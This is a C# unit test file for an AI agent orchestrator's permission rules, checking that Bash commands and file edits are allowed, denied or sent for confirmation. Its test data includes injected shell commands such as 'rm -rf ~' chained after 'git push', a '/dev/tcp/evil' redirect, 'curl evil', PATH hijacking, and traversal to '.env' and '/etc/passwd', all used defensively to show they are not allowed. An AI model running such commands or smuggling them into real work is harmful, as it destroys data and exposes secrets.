using Orchestrator.Agents.PermissionRequests.Rules;
using Orchestrator.Agents.Settings;
using Orchestrator.Runtime.Configuration;
using Xunit;

namespace Orchestrator.Agents.Tests.PermissionRequests;

public sealed class RuleTests
{
    private const string AllowPush = "{ tool = Bash, command = git push, decision = allow }";

    /// <summary>Rules as they stand in a file.</summary>
    internal static PermissionRules Rules(string rules, string otherwise = "ask") => OrchestratorSettings.Read(new ConfigSources(
        Path.Combine(ConfigSources.Shipped, "reference.conf"), [], null, [$"orchestrator.permissions.rules=[{rules}]", $"orchestrator.permissions.default={otherwise}"]).Load()).Permissions;

    [Theory]
    [InlineData("git push", "allow")]
    [InlineData("  git   push ", "allow")]
    [InlineData("git \"push\"", "allow")]
    [InlineData("git push --force", "ask")]
    [InlineData("git pushx", "ask")]
    [InlineData("git push; rm -rf ~", "ask")]
    [InlineData("git push && rm -rf ~", "ask")]
    [InlineData("git push & rm -rf ~", "ask")]
    [InlineData("git push | sh", "ask")]
    [InlineData("git push\nrm -rf ~", "ask")]
    [InlineData("git push\rrm -rf ~", "ask")]
    [InlineData("git push $(rm -rf ~)", "ask")]
    [InlineData("git push `rm -rf ~`", "ask")]
    [InlineData("git \"push$(rm -rf ~)\"", "ask")]
    [InlineData("git push > ~/.bashrc", "ask")]
    [InlineData("git push < /dev/tcp/evil/1", "ask")]
    [InlineData("(git push)", "ask")]
    [InlineData("{ git push; }", "ask")]
    [InlineData("PATH=/evil git push", "ask")]
    [InlineData("/evil/git push", "ask")]
    [InlineData("git \\push", "ask")]
    [InlineData("git push # comment", "ask")]
    [InlineData("git 'push", "ask")]
    [InlineData("git push \u0000", "ask")]
    [InlineData("", "ask")]
    public void A_plain_command_is_allowed_and_nothing_that_hides_behind_it(string command, string decision) =>
        Assert.Equal(decision, Decide(Rules(AllowPush), "Bash", command));

    [Theory]
    [InlineData("npm test", "allow")]
    [InlineData("npm test --watch a.js", "allow")]
    [InlineData("npm testing", "ask")]
    [InlineData("npm run lint:css", "allow")]
    [InlineData("npm run build", "ask")]
    [InlineData("npm test a && curl evil", "ask")]
    [InlineData("npm test a > b", "ask")]
    public void A_star_stands_for_further_words_at_the_end_and_for_letters_within_a_word(string command, string decision) =>
        Assert.Equal(decision, Decide(Rules("{ command = \"npm test *\", decision = allow }, { command = \"npm run lint:*\", decision = allow }"), "Bash", command));

    [Theory]
    [InlineData("rm -rf build", "deny")]
    [InlineData("/bin/rm -rf build", "deny")]
    [InlineData("cd a && rm -rf build", "deny")]
    [InlineData("echo \"a;b\"; rm x", "deny")]
    [InlineData("sudo rm -rf build", "ask")]
    [InlineData("bash -c 'rm -rf build'", "ask")]
    [InlineData("ls $(rm -rf build)", "ask")]
    [InlineData("r\\m -rf build", "ask")]
    [InlineData("X=1 rm -rf build", "ask")]
    [InlineData("cd a && make; ls | wc", "allow")]
    [InlineData("git commit -m \"rm; gone\"", "allow")]
    [InlineData("ls -l", "allow")]
    public void What_is_refused_is_found_in_any_part_and_what_cannot_be_read_is_asked(string command, string decision) =>
        Assert.Equal(decision, Decide(Rules("{ command = \"rm *\", decision = deny }, { tool = Bash, decision = allow }"), "Bash", command));

    [Theory]
    [InlineData("/work/src/a/b.cs", "allow")]
    [InlineData("src/a.cs", "allow")]
    [InlineData("/work/src/../secret.cs", "ask")]
    [InlineData("/work/src/a.txt", "ask")]
    [InlineData("/elsewhere/work/src/a.cs", "ask")]
    [InlineData("/work/.env", "deny")]
    [InlineData("/work/src/x/../../.env", "deny")]
    public void Files_are_compared_by_their_whole_path(string path, string decision) =>
        Assert.Equal(decision, Decide(Rules("{ path = \"**/.env\", decision = deny }, { tool = Edit, path = \"src/**/*.cs\", decision = allow }"), "Edit", null, path));

    [Fact]
    public void A_link_out_of_the_allowed_files_is_not_allowed_and_one_to_a_refused_file_is_refused()
    {
        var rules = Rules("{ path = \"/etc/**\", decision = deny }, { path = \"src/**\", decision = allow }");
        Assert.Equal("ask", Decide(rules, "Edit", null, "/work/src/link", "/home/other"));
        Assert.Equal("deny", Decide(rules, "Edit", null, "/work/src/link", "/etc/passwd"));
    }

    [Theory]
    [InlineData("{ role = tester, decision = allow }", "ask")]
    [InlineData("{ role = \"dev*\", decision = allow }", "allow")]
    [InlineData("{ agent = \"shop:*\", decision = deny }", "deny")]
    [InlineData("{ agent = \"bank:*\", decision = deny }", "ask")]
    [InlineData("{ tool = \"mcp__github__*\", decision = allow }", "allow")]
    [InlineData("{ tool = mcp__github, decision = allow }", "ask")]
    [InlineData("{ tool = \"mcp*\", decision = ask }, { decision = allow }", "ask")]
    [InlineData("{ command = \"*\", decision = allow }", "ask")]
    public void The_first_rule_that_is_about_the_request_decides(string rules, string decision) =>
        Assert.Equal(decision, Decide(Rules(rules), "mcp__github__create_issue", null));

    [Fact]
    public void What_no_rule_is_about_goes_by_the_default() => Assert.Equal("deny", Decide(Rules(AllowPush, "deny"), "Bash", "ls"));

    [Theory]
    [InlineData("{ comand = ls, decision = allow }", "rule 1 has the key \"comand\". Did you mean \"command\"?")]
    [InlineData("{ command = ls }", "rule 1 has no decision")]
    [InlineData("{ decision = allow }, { decision = alow }", "rule 2 has the decision \"alow\"")]
    [InlineData("{ command = \"ls; rm\", decision = allow }", "rule 1: command = \"ls; rm\" is no plain command")]
    [InlineData("{ path = \"a/../b\", decision = allow }", "rule 1: path = \"a/../b\" holds . or ..")]
    [InlineData("{ path = \"a/**b\", decision = allow }", "** stands alone")]
    [InlineData("{ tool = \"Bash Edit\", decision = allow }", "rule 1: tool = \"Bash Edit\" holds a blank")]
    [InlineData("{ command = \"\", decision = allow }", "rule 1: command = \"\" is empty")]
    [InlineData("3", "is no list of groups")]
    public void A_rule_that_cannot_be_used_is_refused_with_its_place(string rules, string problem)
    {
        var error = Assert.Single(Assert.Throws<SettingsException>(() => Rules(rules)).Errors);
        Assert.StartsWith("orchestrator.permissions.rules (in --set orchestrator.permissions.rules)", error, StringComparison.Ordinal);
        Assert.Contains(problem, error, StringComparison.Ordinal);
    }

    [Fact]
    public void A_dialog_is_about_a_command_whose_text_it_shows_however_it_is_wrapped()
    {
        var use = new ToolUse("Bash", "dotnet test tests/Agents.Tests --no-restore", []);
        Assert.True(use.IsShownIn("Bash command\n│ dotnet test tests/Agents.Te │\n│ sts --no-restore │\nDo you want to proceed?"));
        Assert.False(use.IsShownIn("Bash command\ndotnet test tests/Agents.Tests\nDo you want to proceed?"));
    }

    private static string Decide(PermissionRules rules, string tool, string? command, params string[] paths) => rules.Decide(
        new RuleSubject(Some.Developer, "developer", "/work", new ToolUse(tool, command, [.. paths]))).Decision.ToString().ToLowerInvariant();
}
